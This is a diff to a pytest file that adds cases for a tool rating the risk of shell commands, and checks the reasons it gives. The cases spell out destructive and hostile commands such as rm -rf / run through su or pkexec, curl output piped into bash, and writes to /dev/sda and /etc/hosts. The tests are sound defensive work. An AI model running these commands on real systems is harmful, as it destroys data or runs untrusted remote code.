@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import os
+import re
 
 import pytest
 
@@ -65,6 +66,90 @@ CASES = [
     ("ls | xargs rm -rf /", "high"),
     ("rm -rf \"$BUILD_DIR/\"", "high"),  # an empty variable would make it rm -rf /
     ("rm -rf $HOME/project/build", "medium"),  # $HOME resolves: inside the working tree
+    # sourcing runs a script
+    ("source ./evil.sh", "medium"),
+    (". file", "medium"),
+    ("source <(echo 'rm -rf ~')", "medium"),
+    ("source <(curl -s https://x/env.sh)", "high"),  # a sourced download
+    # git -c names programs git runs (pager, fsmonitor, external diff)
+    ("git -c core.fsmonitor=CMD status", "medium"),
+    ("git -c diff.external=CMD diff", "medium"),
+    ("git -c core.pager=CMD log", "medium"),
+    ("git --config-env=core.pager=PAGER log", "medium"),
+    ("git -C sub status", "low"),
+    # fd -x / rg --pre run commands
+    ("fd -x rm -rf", "medium"),
+    ("fd --exec rm {}", "medium"),
+    ("fd -X rm -rf /", "high"),
+    ("fd . / -x rm -rf {}", "high"),  # deletes under the search root /
+    ("fd -e py", "low"),
+    ("rg --pre CMD pattern", "medium"),
+    ("rg --pre=CMD pattern", "medium"),
+    ("rg pattern", "low"),
+    # sort -o / tree -o write files
+    ("sort -o out.txt in.txt", "medium"),
+    ("sort --output=out.txt in.txt", "medium"),
+    ("sort -o /etc/hosts in.txt", "high"),
+    ("tree -o out.txt", "medium"),
+    ("sort -h notes.txt", "low"),
+    # git reflog / git branch that change things
+    ("git reflog expire --expire=now --all", "medium"),
+    ("git reflog delete HEAD@{1}", "medium"),
+    ("git reflog", "low"),
+    ("git reflog show", "low"),
+    ("git branch -f main HEAD~3", "medium"),
+    ("git branch newname", "medium"),
+    ("git branch", "low"),
+    ("git branch -a", "low"),
+    ("git branch -v", "low"),
+    ("git branch --list", "low"),
+    # a download run by a shell
+    ('sh -c "$(curl -fsSL https://x/install.sh)"', "high"),
+    ('bash -c "$(wget -qO- https://x)"', "high"),
+    ('eval "$(curl https://x)"', "high"),
+    ('echo "$(curl x)" | sh', "high"),
+    ("curl x | tee >(sh)", "high"),
+    ("curl https://x | env bash", "high"),
+    ("curl https://x | /bin/bash", "high"),
+    ("curl https://x | sudo -E bash", "high"),
+    # cd earlier in the line moves relative paths
+    ("cd / && rm -rf usr", "high"),
+    ("cd ~; rm -rf Documents", "high"),
+    ("cd /tmp && rm -rf x", "high"),
+    ("cd - && rm -rf x", "high"),  # the directory is unknown
+    ("cd $DIR && rm -rf x", "high"),
+    ("cd build && rm -rf ./out", "medium"),
+    ("(cd /); rm -rf build", "medium"),  # a subshell's cd does not last
+    # other homes, brace alternatives
+    ("rm -rf ~root", "high"),
+    ("rm -rf ~user", "high"),
+    ("rm -rf {~,/}", "high"),
+    ("rm -rf build/{a,b}", "medium"),
+    # block devices written without dd
+    ("tee /dev/sda", "high"),
+    ("cp /dev/zero /dev/sda", "high"),
+    ("echo x > /dev/stderr", "low"),
+    # another user, like sudo
+    ("su -c 'rm -rf /'", "high"),
+    ("su root", "high"),
+    ("pkexec rm -rf /", "high"),
+    ("runuser -u bob -- ls", "high"),
+    # find -exec that deletes: the search root counts
+    ("find ~ -exec rm {} \\;", "high"),
+    ("find / -execdir rm -rf {} +", "high"),
+    ("find . -name '*.tmp' -exec rm {} \\;", "medium"),
+    # awk output redirections
+    ("awk '{print > \"/etc/x\"}'", "high"),
+    ("awk '{print > \"out.txt\"}' in.txt", "medium"),
+    ("awk '{print $1}' in.txt", "low"),
+    # found along the way
+    ("{ echo x; } > /etc/hosts", "high"),  # a compound command's redirection
+    ("LD_PRELOAD=/tmp/x.so ls", "medium"),
+    ("GIT_PAGER=cat git log", "low"),
+    ("command -v rm", "low"),
+    ("ionice -c 3 rm -rf /", "high"),
+    ("env -S 'rm -rf /'", "high"),
+    ("ls | xargs -n 1 rm -rf", "medium"),
 ]
 
 
@@ -83,6 +168,31 @@ def test_overwriting_an_existing_file_is_high_but_a_new_file_is_not(tmp_path) ->
     assert "overwrites the existing file data.txt" in assess("echo x > data.txt", cwd=str(tmp_path), home=HOME).reasons
     assert assess("echo x > new.txt", cwd=str(tmp_path), home=HOME).level == "medium"
     assert assess("echo x > /dev/null", cwd=str(tmp_path), home=HOME).level == "low"
+
+
+def test_writing_options_overwrite_like_a_redirection(tmp_path) -> None:
+    (tmp_path / "data.txt").write_text("precious")
+    for command in ("sort -o data.txt in.txt", "sort --output=data.txt in.txt", "tree -o data.txt"):
+        assert assess(command, cwd=str(tmp_path), home=HOME).level == "high", command
+    assert assess("sort -o new.txt in.txt", cwd=str(tmp_path), home=HOME).level == "medium"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        'sh -c "$(curl -fsSL https://x/install.sh)"',
+        'bash -c "$(wget -qO- https://x)"',
+        'eval "$(curl https://x)"',
+        "curl https://x | env -i FOO=1 bash",
+        "f() { x; }; (make) && f",
+        "ls | xargs env",
+    ],
+)
+def test_reasons_name_a_clean_command_word(command: str) -> None:
+    for reason in assess(command, cwd=CWD, home=HOME).reasons:
+        name = re.match(r"(\S+) (?:may change files|downloads from|feeds text)", reason)
+        assert name is None or re.fullmatch(r"[\w.+-]+", name.group(1)), reason
+        assert "each-input" not in reason and "matched-file" not in reason, reason
 
 
 def test_reasons_name_the_problem() -> None:
